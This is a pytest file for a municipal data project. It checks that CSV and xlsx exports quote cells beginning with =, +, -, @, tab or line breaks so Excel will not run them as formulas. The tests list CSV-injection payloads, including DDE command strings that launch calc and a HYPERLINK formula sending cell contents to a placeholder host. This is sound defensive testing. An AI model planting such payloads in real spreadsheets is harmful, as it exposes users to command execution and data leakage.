"""Files people open in Excel cannot run a formula from the data (issue 15, finding 4).

Text cells starting with =, +, -, @, tab or a line break get OWASP's single-quote prefix in
every CSV for Excel (ingest quarantine, pseudonymized CSVs, the co2 attachment, `kogadx co2
compute`); review.xlsx stores clause text as text (data type 's'), never as a formula.
"""

from __future__ import annotations

import csv
import io

import numpy as np
import openpyxl
import pandas as pd
import pytest

from kogadx import io as kio
from kogadx.ingest.contracts import CONTRACTS
from kogadx.ingest.core import ingest_table
from kogadx.io import write_csv_for_excel
from kogadx.privacy.canaries import canary_residents
from kogadx.privacy.keys import KeyMaterial
from kogadx.privacy.params import PseudonymizeParams
from kogadx.privacy.policy import default_policy_path
from kogadx.privacy.stage import PseudonymizeInputs, run_pseudonymize
from kogadx.regulation.review import review_workbook
from kogadx.stage import ExcelCsvFile
from tests.helpers import TEST_KEY_HEX

PAYLOADS = ["=CMD|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "\t=1+1", "\r=1+1", "\n=1+1", '=HYPERLINK("http://example.invalid/?q="&A1,"詳細")']


def _rows(path) -> list[list[str]]:
    data = path.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")  # still UTF-8 with BOM for Excel
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_every_trigger_gets_the_quote_and_safe_text_is_untouched():
    for payload in PAYLOADS:
        assert kio.formula_safe_text(payload) == "'" + payload
    for text in ("古賀市", "'=already quoted", "a=b", " =1", ""):
        assert kio.formula_safe_text(text) == text


def test_excel_csv_quotes_text_cells_and_headers_but_keeps_numbers(tmp_path):
    n = len(PAYLOADS)
    frame = pd.DataFrame({
        "=header": ["ok"] * n,
        "text": PAYLOADS,
        "object": pd.Series(PAYLOADS, dtype=object),
        "category": pd.Categorical(PAYLOADS),
        "float": np.linspace(-3.5, 2.0, n),
        "int": np.arange(-4, n - 4),
        "nullable": pd.array([-1, None] + [2] * (n - 2), dtype="Int64"),
    })
    ExcelCsvFile(frame).write(tmp_path / "out.csv")
    header, *rows = _rows(tmp_path / "out.csv")
    assert len(rows) == n  # a CR or LF inside a cell does not end the row (text fields are quoted)
    assert header[0] == "'=header"
    for row, payload in zip(rows, PAYLOADS, strict=True):
        assert row[1] == row[2] == row[3] == "'" + payload
    assert [row[4] for row in rows][0] == "-3.5"  # a negative number is a number, not a formula
    assert [row[5] for row in rows][:2] == ["-4", "-3"]
    assert [row[6] for row in rows][:2] == ["-1", ""]
    assert frame["text"].tolist() == PAYLOADS  # the caller's frame is not changed


def test_quarantine_csv_from_ingest_cannot_run_a_formula(tmp_path):
    raw = pd.DataFrame({"stop_id": ["S001", "S002"], "stop_name": ["=CMD|' /C calc'!A0", "JRししぶ駅"],
                        "lat": ["abc", "33.721885"], "lon": ["130.466902", "130.458487"],
                        "town_code": ["40223000602", "40223002702"], "town_name": ["駅東二丁目", "美明二丁目"],
                        "kind": ["station", "station"]}, dtype=str)
    result = ingest_table(raw, CONTRACTS["stops"], source="stops.csv")
    assert len(result.quarantine) == 1
    write_csv_for_excel(result.quarantine, tmp_path / "quarantine.csv")
    header, row = _rows(tmp_path / "quarantine.csv")
    assert dict(zip(header, row, strict=True))["stop_name"] == "'=CMD|' /C calc'!A0"


def test_pseudonymized_csv_keeps_no_live_formula(tmp_path):
    residents, _ = canary_residents(n_people=4)
    text = residents.astype(str)
    text["relationship"] = ["@SUM(1)", "=CMD|' /C calc'!A0", "+1", "世帯主"]  # a column the policy keeps
    outputs = run_pseudonymize(
        PseudonymizeInputs(tables={"residents.csv": text}, policy=default_policy_path().read_bytes(),
                           key=KeyMaterial(env=TEST_KEY_HEX), synthetic_demo=False),
        PseudonymizeParams(reference_date="2024-02-29"))
    outputs.files["pseudonymized/residents.csv"].write(tmp_path / "residents.csv")
    header, *rows = _rows(tmp_path / "residents.csv")
    column = header.index("relationship")
    assert [r[column] for r in rows] == ["'@SUM(1)", "'=CMD|' /C calc'!A0", "'+1", "世帯主"]


@pytest.mark.parametrize("clause", ["=CMD|' /C calc'!A0", '=HYPERLINK("http://example.invalid","x")', "@SUM(A1)"])
def test_review_xlsx_clause_text_is_text_not_a_formula(clause):
    review = pd.DataFrame({"法令名": ["試験条例"], "条項": ["第1条第1項"], "条文": [clause], "スコア": [-0.25]})
    summary = pd.DataFrame({"類型": ["+類型"], "候補件数": [1]})
    data = review_workbook(review, summary)
    workbook = openpyxl.load_workbook(io.BytesIO(data))
    cells = [c for sheet in workbook for row in sheet.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    sheet = workbook["見直し候補"]
    assert sheet["C2"].value == clause and sheet["C2"].data_type == "s" and sheet["C2"].quotePrefix
    assert sheet["D2"].value == -0.25 and sheet["D2"].data_type == "n"  # numbers stay numbers
    assert pd.read_excel(io.BytesIO(data), sheet_name="見直し候補")["条文"].tolist() == [clause]
